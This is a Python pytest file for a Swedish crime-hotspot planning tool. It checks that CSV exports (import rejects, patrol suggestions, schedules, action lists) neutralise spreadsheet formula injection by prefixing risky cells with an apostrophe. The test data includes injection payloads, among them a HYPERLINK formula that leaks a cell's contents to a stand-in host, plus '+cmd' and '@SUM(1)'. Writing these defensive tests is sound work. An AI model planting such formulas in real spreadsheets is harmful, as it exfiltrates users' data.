"""Every CSV the project writes opens as a table in Swedish Excel and runs no formula.

The layout (hotspots.io.csv_safety.write_excel_csv): ``;`` between cells, UTF-8 with a BOM,
decimal comma in Swedish, headers in the interface language, and every text cell starting with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return behind a ``'`` (OWASP). The files are
read back as bytes: the rejects file of a real import, the plan's suggestions CSV, the
schedule CSV and the actions list.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import geopandas as gpd
import numpy as np
import pandas as pd
import pytest
from shapely.geometry import LineString, Point

from hotspots.cli import run
from hotspots.cli.plan_cmd import suggestions_csv
from hotspots.core.schema import TIMEZONE
from hotspots.io.csv_safety import excel_csv_bytes, read_excel_csv, write_excel_csv
from hotspots.load.ingest import import_file
from hotspots.planning import schedule

BOM = b"\xef\xbb\xbf"
HYPERLINK = '=HYPERLINK("http://x/?leak="&A1,"y")'
ATTACKS = (HYPERLINK, "+cmd", "@SUM(1)", "-2+3", "\t=1+1", "\r=1+1")
NOW = pd.Timestamp("2026-06-01 12:00", tz=TIMEZONE)


def _cells(raw: bytes) -> list[list[str]]:
    """The cells of a file as Excel splits them: after the BOM, on ``;``."""
    assert raw.startswith(BOM), raw[:10]
    text = raw[len(BOM) :].decode("utf-8")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def _no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row


def test_layout_swedish_and_english() -> None:
    frame = pd.DataFrame(
        {
            "date": ["2026-12-07"],
            "minutes": [45],
            "expected_share": [0.125],
            "lon": [-13.5],  # a negative number stays a number
            "place": ["=1+1"],
        }
    )
    sv = excel_csv_bytes(frame, lang="sv")
    assert sv == BOM + "Datum;Minuter;Förväntad andel;Longitud;Plats\r\n".encode() + (
        b"2026-12-07;45;0,125;-13,5;'=1+1\r\n"
    )
    en = excel_csv_bytes(frame, lang="en")
    assert en == BOM + b"Date;Minutes;Expected share;Longitude;Place\r\n" + (
        b"2026-12-07;45;0.125;-13.5;'=1+1\r\n"
    )
    # a column nobody translated keeps its name, neutralised like any cell
    odd = excel_csv_bytes(pd.DataFrame({"adress": ["x"], "=evil": ["y"]}), lang="sv")
    assert _cells(odd)[0] == ["adress", "'=evil"]
    kept = excel_csv_bytes(frame, lang="sv", translate_headers=False)
    assert _cells(kept)[0] == ["date", "minutes", "expected_share", "lon", "place"]


def test_cells_with_separators_quotes_and_line_breaks_stay_one_cell(tmp_path: Path) -> None:
    frame = pd.DataFrame({"note": ['a;b "c"\nd', "Åsa, Örebro", *ATTACKS]})
    path = tmp_path / "t.csv"
    write_excel_csv(frame, path, lang="sv")
    rows = _cells(path.read_bytes())
    assert rows[0] == ["Anteckning"]
    assert [r[0] for r in rows[1:3]] == ['a;b "c"\nd', "Åsa, Örebro"]
    assert [r[0] for r in rows[3:]] == ["'" + a for a in ATTACKS]
    _no_formula(rows)
    back = read_excel_csv(path)
    assert back["Anteckning"].tolist()[:2] == ['a;b "c"\nd', "Åsa, Örebro"]


def test_append_writes_no_second_header_or_bom(tmp_path: Path) -> None:
    path = tmp_path / "t.csv"
    write_excel_csv(pd.DataFrame({"row": [2], "value": ["+x"]}), path, lang="en")
    write_excel_csv(pd.DataFrame({"row": [3], "value": ["y"]}), path, lang="en", append=True)
    raw = path.read_bytes()
    assert raw.count(BOM) == 1
    assert _cells(raw) == [["Row", "Value"], ["2", "'+x"], ["3", "y"]]


def test_rejects_of_a_real_import_are_excel_csv_and_inert(tmp_path: Path) -> None:
    src = tmp_path / "evil.csv"
    rows = [
        ["id", "occurred_at", "category", "lat", "lon"],
        ["e1", "2026-03-14 22:15", HYPERLINK, "59.38", "13.50"],  # unknown category
        ["e2", "@SUM(1)", "drug_use", "59.38", "13.50"],  # not a time
        ["+cmd", "2026-03-14 22:15", "drug_use", "59.38", "13.50"],
        ["+cmd", "2026-03-14 22:15", "drug_use", "59.38", "13.50"],  # merged: echoes the id
    ]
    with src.open("w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows(rows)
    summary = import_file(src, db=tmp_path / "s.gpkg", now=NOW)
    assert summary.rejects_path is not None
    cells = _cells(summary.rejects_path.read_bytes())
    assert cells[0] == ["Rad", "Kolumn", "Värde", "Orsak"]
    values = {int(r[0]): r[2] for r in cells[1:]}
    assert values[2] == "'" + HYPERLINK
    assert values[3] == "'@SUM(1)"
    assert values[5] == "'+cmd"
    _no_formula(cells)
    english = import_file(src, db=tmp_path / "e.gpkg", now=NOW, lang="en")
    assert english.rejects_path is not None
    assert _cells(english.rejects_path.read_bytes())[0] == ["Row", "Column", "Value", "Reason"]


def _suggestions() -> gpd.GeoDataFrame:
    """Two suggestions whose place names (from a user's geography) are formulas."""
    return gpd.GeoDataFrame(
        {
            "id": ["FP1", "TC1"],
            "rank": [1, 2],
            "kind": ["foot_patrol", "traffic_check"],
            "focus": ["", "dui"],
            "place": [HYPERLINK, "+cmd"],
            "district": ["@SUM(1)", "Herrhagen"],
            "weekdays": [["fri", "sat"], ["sun"]],
            "hours": ["22-04", "01-04"],
            "incidents": [40, 12],
            "expected_share": [0.125, 0.02],
            "evidence": [{"assault_public": 30, "disorder": 10}, {"dui": 12}],
            "reason_sv": ["Många våldsbrott", "-Rattfylleri"],
            "reason_en": ["Much violence", "-Drink driving"],
            "priority": [3.0, 1.0],
            "visit_minutes": [50, 60],
            "window_minutes_per_week": [720, 180],
            "day_weights": [[0, 0, 0, 0, 5, 3, 0], [0, 0, 0, 0, 0, 0, 1]],
            "stop_names": [["=A", "B"], []],
        },
        geometry=[
            LineString([(413600, 6584200), (413700, 6584200), (413600, 6584200)]),
            Point(414000, 6585000),
        ],
        crs="EPSG:3006",
    )


def test_plan_csv_is_excel_csv_in_words_and_inert() -> None:
    raw = suggestions_csv(_suggestions(), lang="sv")
    cells = _cells(raw)
    header = cells[0]
    assert header[:5] == ["Id", "Rang", "Typ", "Inriktning", "Plats"]
    assert {"Veckodagar", "Underlag", "Varför", "Longitud", "Latitud"} <= set(header)
    table = pd.DataFrame(cells[1:], columns=header)
    assert table["Typ"].tolist() == ["Fotpatrull", "Trafikkontroll"]
    assert table["Veckodagar"].tolist() == ["fre, lör", "natten lör/sön"]  # Sunday 01-04
    assert table["Plats"].tolist() == ["'" + HYPERLINK, "'+cmd"]
    assert table["Stadsdel"].tolist()[0] == "'@SUM(1)"
    assert table["Varför"].tolist() == ["Många våldsbrott", "'-Rattfylleri"]
    assert table["Förväntad andel"].tolist() == ["0,125", "0,02"]  # decimal comma
    assert "Misshandel" in table["Underlag"][0]  # category words, not codes
    assert "," in table["Longitud"][0]
    _no_formula(cells)
    english = pd.DataFrame(_cells(suggestions_csv(_suggestions(), lang="en"))[1:])
    assert english.iloc[:, 2].tolist() == ["Foot patrol", "Traffic check"]


def test_schedule_csv_is_excel_csv_in_words_and_inert() -> None:
    sugg = _suggestions()
    sched = schedule.build_schedule(sugg, hours_per_week=4, week="2026-W50", teams=2)
    cells = _cells(schedule.render_csv(sched, lang="sv"))
    assert cells[0] == [
        "Datum",
        "Dag",
        "Start",
        "Slut",
        "Minuter",
        "Typ",
        "Plats",
        "Stadsdel",
        "Förslag",
        "Rutt",
        "Tider",
        "Patrull",
    ]
    table = pd.DataFrame(cells[1:], columns=cells[0])
    nights = {"natten fre/lör", "natten lör/sön", "natten sön/mån"}  # visits after midnight
    assert set(table["Dag"]) <= {"fre", "lör", "sön", "mån", *nights}
    assert set(table["Typ"]) == {"Fotpatrull", "Trafikkontroll"}
    assert "'" + HYPERLINK in set(table["Plats"])
    _no_formula(cells)
    assert sum(int(m) for m in table["Minuter"]) == 240


def test_actions_list_csv(tmp_db: Path, tmp_path: Path) -> None:
    add = ["actions", "add", "--db", str(tmp_db), "--problem", "violence", "--actor", "polis"]
    note = ["--note", "=HYPERLINK(1)", "--date", "2026-11-20"]
    assert run([*add, "--action", "annat", "--district", "Kronoparken", *note]) == 0
    out = tmp_path / "actions.csv"
    assert run(["actions", "list", "--db", str(tmp_db), "--csv", str(out)]) == 0
    cells = _cells(out.read_bytes())
    assert cells[0][:4] == ["Id", "Datum", "Status", "Platstyp"]
    assert "'=HYPERLINK(1)" in cells[1]
    _no_formula(cells)
    assert run(["actions", "list", "--db", str(tmp_db), "--csv", str(out), "--lang", "en"]) == 0
    assert _cells(out.read_bytes())[0][:3] == ["Id", "Date", "Status"]


@pytest.mark.parametrize("lang", ["sv", "en"])
def test_excel_csv_round_trip_of_numbers(lang: str) -> None:
    rng = np.random.default_rng(5)
    values = rng.normal(0, 1000, 20).round(3)
    raw = excel_csv_bytes(pd.DataFrame({"minutes": values}), lang=lang)
    back = read_excel_csv(raw).iloc[:, 0]
    if lang == "sv":
        back = back.str.replace(",", ".")
    np.testing.assert_allclose(back.astype(float).to_numpy(), values)
